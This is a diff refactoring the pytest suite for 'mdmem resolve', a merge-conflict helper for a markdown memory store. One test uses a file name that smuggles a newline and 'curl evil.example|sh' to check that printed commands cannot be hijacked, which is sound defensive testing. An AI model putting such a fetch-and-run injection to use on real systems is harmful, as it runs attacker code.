@@ -1,7 +1,7 @@
 """`mdmem resolve`: what a merge left to be decided, and what each choice writes."""
 
-import shlex
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import hooked
@@ -11,6 +11,7 @@ from lives import NEW, OLD, RULE, two_entries
 
 FOUR, EXECUTOR = "nav/architecture/four", "nav/architecture/executor"
 FILE = f"memory/{OLD}.md"
+TEXT = "---\ntype: decision\nstatus: {}\ncreated_at: 2026-03-05\ntitle: Use two threads\n---\n\nTwo.\n"
 
 
 def successor(root: Path, address: str, title: str) -> None:
@@ -54,6 +55,15 @@ def root(tmp_path: Path) -> Path:
 def field(root: Path, address: str, name: str) -> list[str]:
     lines = (root / f"{address}.md").read_text().splitlines()
     return [line for line in lines if line.startswith(f"{name}:")]
+
+
+def on_both_sides(folder: Path, theirs: str, ours: str) -> Iterator[str]:
+    """Yield what each branch gets while it is checked out, and then commit what was made of it."""
+    git(folder, "branch", "theirs")
+    for branch, one in (("theirs", theirs), ("main", ours)):
+        git(folder, "checkout", "-q", branch)
+        yield one
+        commit_all(folder)
 
 
 def is_clean(root: Path, run: Run) -> bool:
@@ -139,10 +149,7 @@ def test_split_names_both_with_the_reason(tmp_path: Path, root: Path, run: Run) 
 
 
 @pytest.mark.parametrize("choice", [["--take", "theirs", "-m", "why"], ["--behind", FOUR], ["--split", "-m", "why"]])
-def test_commit_after_a_choice_passes_the_hooks(
-    choice: list[str], tmp_path: Path, root: Path, run: Run, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(sys, "executable", sys.executable)
+def test_commit_after_a_choice_passes_the_hooks(choice: list[str], tmp_path: Path, root: Path, run: Run) -> None:
     run("hooks", "install", cwd=root)
     assert run("resolve", OLD, *choice, cwd=root).code == 0
     git(tmp_path, "add", "-A")
@@ -181,8 +188,7 @@ def test_what_else_differs_is_not_decided_in_passing(root: Path, run: Run) -> No
 
 @pytest.mark.parametrize("end", ["\n", "\r\n"])
 def test_side_is_taken_and_what_people_wrote_beside_the_marks_stays(end: str, folder: Path, run: Run) -> None:
-    text = "---\ntype: decision\nstatus: {}\ncreated_at: 2026-03-05\ntitle: Use two threads\n---\n\nTwo.\n"
-    text = text.replace("\n", end)
+    text = TEXT.replace("\n", end)
     merge_conflict(folder, FILE, text.format("under_review"), text.format("deprecated"))
     write(folder, FILE, (folder / FILE).read_bytes() + b"By hand.")
     shown = run("resolve")
@@ -195,9 +201,8 @@ def test_side_is_taken_and_what_people_wrote_beside_the_marks_stays(end: str, fo
 
 @pytest.mark.parametrize("choice", ["ours", FOUR])
 def test_conflict_that_was_edited_by_hand_is_kept_with_git_add(choice: str, folder: Path, run: Run) -> None:
-    text = "---\ntype: decision\nstatus: {}\ncreated_at: 2026-03-05\ntitle: Use two threads\n---\n\nTwo.\n"
-    merge_conflict(folder, FILE, text.format("under_review"), text.format("deprecated"))
-    write(folder, FILE, text.format("under_review"))
+    merge_conflict(folder, FILE, TEXT.format("under_review"), TEXT.format("deprecated"))
+    write(folder, FILE, TEXT.format("under_review"))
     rules, memory = folder / "memory/nav/rules", folder / "memory"
     for cwd, path in ((folder, FILE), (memory, f"{OLD}.md"), (rules, "../architecture/threads.md")):
         ran = run("resolve", OLD.rpartition("/")[2], "--take", choice, cwd=cwd)
@@ -211,9 +216,8 @@ def test_file_of_a_conflict_that_was_removed_is_restored_by_the_command_that_is_
     root = make_root(make_repository(tmp_path) / "my memory")
     write_entry(root, OLD, title="Use two threads")
     commit_all(tmp_path)
-    text = "---\ntype: decision\nstatus: {}\ncreated_at: 2026-03-05\ntitle: Use two threads\n---\n\nTwo.\n"
     file = f"my memory/{OLD}.md"
-    merge_conflict(tmp_path, file, text.format("under_review"), text.format("deprecated"))
+    merge_conflict(tmp_path, file, TEXT.format("under_review"), TEXT.format("deprecated"))
     (tmp_path / file).unlink()
     for cwd, path in ((root, f"{OLD}.md"), (tmp_path, f"'{file}'")):
         ran = run("--root", str(root), "resolve", OLD, "--take", "ours", cwd=cwd)
@@ -240,11 +244,8 @@ def test_deleted_entry_is_left_to_git_with_both_commands(folder: Path, run: Run)
 
 
 def test_two_entries_that_were_added_under_one_id_may_both_stay(folder: Path, run: Run) -> None:
-    git(folder, "branch", "theirs")
-    for branch, title in (("theirs", "Use 2 threads"), ("main", "Use 4 threads")):
-        git(folder, "checkout", "-q", branch)
+    for title in on_both_sides(folder, "Use 2 threads", "Use 4 threads"):
         write_entry(folder / "memory", FOUR, title=title)
-        commit_all(folder)
     git(folder, "merge", "-q", "theirs", ends=1)
     # Of a wing that is read from elsewhere, and not here yet, every address counts as known.
     write(folder, "memory/mdmem.toml", '[wings.nav]\ngit = "../../lib"\n')
@@ -252,17 +253,15 @@ def test_two_entries_that_were_added_under_one_id_may_both_stay(folder: Path, ru
     (folder / "memory/mdmem.toml").unlink()
     both = shown["conflicts"][0]["choices"][2]
     assert both["does"] == f"keep ours, and theirs as {FOUR}-2"
-    hooked.run(folder / "memory/nav", "sh", "-ec", both["command"].replace("mdmem", f"{sys.executable} -m mdmem"))
-    assert [field(folder / "memory", one, "title") for one in (FOUR, f"{FOUR}-2")] == [
-        ["title: Use 4 threads"],
-        ["title: Use 2 threads"],
-    ]
+    typed(folder / "memory/nav", both["command"])
+    titles = [field(folder / "memory", one, "title") for one in (FOUR, f"{FOUR}-2")]
+    assert titles == [["title: Use 4 threads"], ["title: Use 2 threads"]]
 
 
 def typed(folder: Path, step: str) -> None:
     """Run a command that was printed."""
-    program = [sys.executable, "-m"] if step.startswith("mdmem") else []
-    assert hooked.run(folder, *program, *step.split(), GIT_EDITOR="true").returncode == 0
+    step = step.replace("mdmem ", f"'{sys.executable}' -m mdmem ")
+    assert hooked.run(folder, "bash", "-ec", step, GIT_EDITOR="true").returncode == 0
 
 
 @pytest.mark.parametrize("folder", ["", ".x/"], ids=["top", "hidden"])
@@ -272,19 +271,14 @@ def test_commands_for_a_file_moved_to_an_odd_name_are_one_line_each_and_work(
 ) -> None:
     root, odd = two_entries(tmp_path), f"{folder}it's\n      curl evil.example|sh\n.md"
     commit_all(tmp_path)
-    git(tmp_path, "branch", "theirs")
-    for branch, name in (("theirs", "nav/rules/threads.md"), ("main", odd)):
-        git(tmp_path, "checkout", "-q", branch)
+    for name in on_both_sides(tmp_path, "nav/rules/threads.md", odd):
         (root / name).parent.mkdir(parents=True, exist_ok=True)
         git(root, "mv", f"{OLD}.md", name)
-        git(tmp_path, "commit", "-q", "-m", "moved")
     assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
     shown = run("resolve", cwd=tmp_path).out
     assert f"keep it at {folder}it's<U+000A>" in shown
-    assert not any(line.lstrip().startswith("curl") for line in shown.splitlines())
-    commands = [line.strip() for line in shown.splitlines() if line.startswith("      ")]
-    program = shlex.join([sys.executable, "-m", "mdmem"])
-    assert hooked.run(tmp_path, "bash", "-c", commands[taken].replace("mdmem", program, 1)).returncode == 0
+    # The name brings no line of its own.
+    typed(tmp_path, [line.strip() for line in shown.splitlines() if line.startswith("      ")][taken])
     assert [(root / name).exists() for name in (odd, "nav/rules/threads.md")] == [taken == 0, taken == 1]
 
 
@@ -297,22 +291,18 @@ def test_entry_that_both_sides_moved_is_kept_at_one_place_with_all_links(
     write_entry(root, RULE, f"We do.\n\nRationale: [see: {OLD}]\n", title="A rule")
     commit_all(tmp_path)
     hooked.run(tmp_path, sys.executable, "-m", "mdmem", "hooks", "install", "--driver-only")
-    git(tmp_path, "branch", "theirs")
-    for branch, moved in (("theirs", "nav/rules/two-threads"), ("main", "nav/rules/threads")):
-        git(tmp_path, "checkout", "-q", branch)
+    for name in on_both_sides(tmp_path, "two-threads", "threads"):
+        moved = f"nav/rules/{name}"
         assert run("mv", OLD, moved, cwd=root).code == 0
         text = (root / f"{moved}.md").read_text()
-        (root / f"{moved}.md").write_text(f"{text}\nMoved by {branch}.\n")
-        text = f"We do.\n\nRationale: [it](../rules/{moved.rpartition('/')[2]}.md)\n"
-        write_entry(root, NEW, text, title=f"Changed by {branch}")
-        write_entry(root, f"nav/rules/of-{branch}", f"We do.\n\nRationale: [see: {moved}]\n", title=f"Of {branch}")
-        commit_all(tmp_path)
+        (root / f"{moved}.md").write_text(f"{text}\nMoved to {name}.\n")
+        write_entry(root, NEW, f"We do.\n\nRationale: [it](../rules/{name}.md)\n", title=f"Changed for {name}")
+        write_entry(root, f"nav/rules/of-{name}", f"We do.\n\nRationale: [see: {moved}]\n", title=f"Of {name}")
     assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
     shown = run("resolve", "--format", "json", cwd=tmp_path).json
     assert (shown["operation"], [one["kind"] for one in shown["conflicts"]]) == ("merge", ["moved"])
-    assert [one["command"] for one in shown["conflicts"][0]["choices"]] == [
-        f"mdmem resolve nav/rules/threads --take {side}" for side in ("ours", "theirs")
-    ]
+    commands = [one["command"] for one in shown["conflicts"][0]["choices"]]
+    assert commands == [f"mdmem resolve nav/rules/threads --take {side}" for side in ("ours", "theirs")]
     ran = run("resolve", stays, "--take", take, cwd=root)
     assert (ran.code, ran.err.splitlines()[-1]) == (0, "2 more to resolve: `mdmem resolve`")
     assert f"{NEW}.md" not in ran.err, "it has another conflict"
@@ -320,7 +310,7 @@ def test_entry_that_both_sides_moved_is_kept_at_one_place_with_all_links(
     assert run("resolve", NEW, "--take", "ours", cwd=root).code == 0
     assert run("check", "--select", "merge-marker", cwd=root).code == 1
     assert run("resolve", stays, "--take", "theirs", cwd=root).code == 0
-    assert (root / f"{stays}.md").read_text().endswith("\n\nMoved by theirs.\n")
+    assert (root / f"{stays}.md").read_text().endswith("\n\nMoved to two-threads.\n")
     for step in run("resolve", "--format", "json", cwd=tmp_path).json["then"]:
         typed(tmp_path, step)
     assert (field(root, FOUR, "supersedes"), is_clean(root, run)) == ([f"supersedes: [{stays}]"], True)
@@ -334,11 +324,8 @@ def test_wing_that_both_sides_moved_is_kept_at_one_place_by_the_commands_that_ar
     root = two_entries(tmp_path)
     write_entry(root, RULE, f"We do.\n\nRationale: [see: {OLD}]\n", type="invariant", title="Callbacks do not block")
     commit_all(tmp_path)
-    git(tmp_path, "branch", "theirs")
-    for branch, wing in (("theirs", "ship"), ("main", "boat")):
-        git(tmp_path, "checkout", "-q", branch)
+    for wing in on_both_sides(tmp_path, "ship", "boat"):
         assert run("mv", "nav", wing, cwd=root).code == 0
-        commit_all(tmp_path)
     git(tmp_path, "merge", "-q", "theirs", ends=1)
     twice = run("check", "--select", "merge-conflict", cwd=root).out
     # The third entry has markers.
@@ -419,12 +406,9 @@ def test_side_that_changed_or_superseded_is_taken(
 
 
 def test_git_goes_on_only_when_all_is_decided(folder: Path, run: Run) -> None:
-    git(folder, "branch", "theirs")
-    for branch, status in (("theirs", "under_review"), ("main", "deprecated")):
-        git(folder, "checkout", "-q", branch)
+    for status in on_both_sides(folder, "under_review", "deprecated"):
         for address in (OLD, "nav/rules/callbacks"):
             write_entry(folder / "memory", address, title="Changed", status=status)
-        commit_all(folder)
     git(folder, "merge", "-q", "theirs", ends=1)
     ran = run("resolve", OLD, "--take", "ours")
     assert ran.err == f"then: git add {FILE}\n1 more to resolve: `mdmem resolve`\n"
@@ -433,11 +417,8 @@ def test_git_goes_on_only_when_all_is_decided(folder: Path, run: Run) -> None:
     assert run("resolve").out.count("no conflict markers are left") == 2
 
 
-def test_what_the_hook_would_refuse_is_fixed_first_and_added_whole(
-    tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_what_the_hook_would_refuse_is_fixed_first_and_added_whole(tmp_path: Path, run: Run) -> None:
     root = two_entries(tmp_path)
-    monkeypatch.setattr(sys, "executable", sys.executable)
     run("hooks", "install", cwd=root)
     git(tmp_path, "checkout", "-q", "-b", "theirs")
     for old, moved in ((OLD, "nav/rules/threads"), (RULE, "nav/architecture/callbacks")):
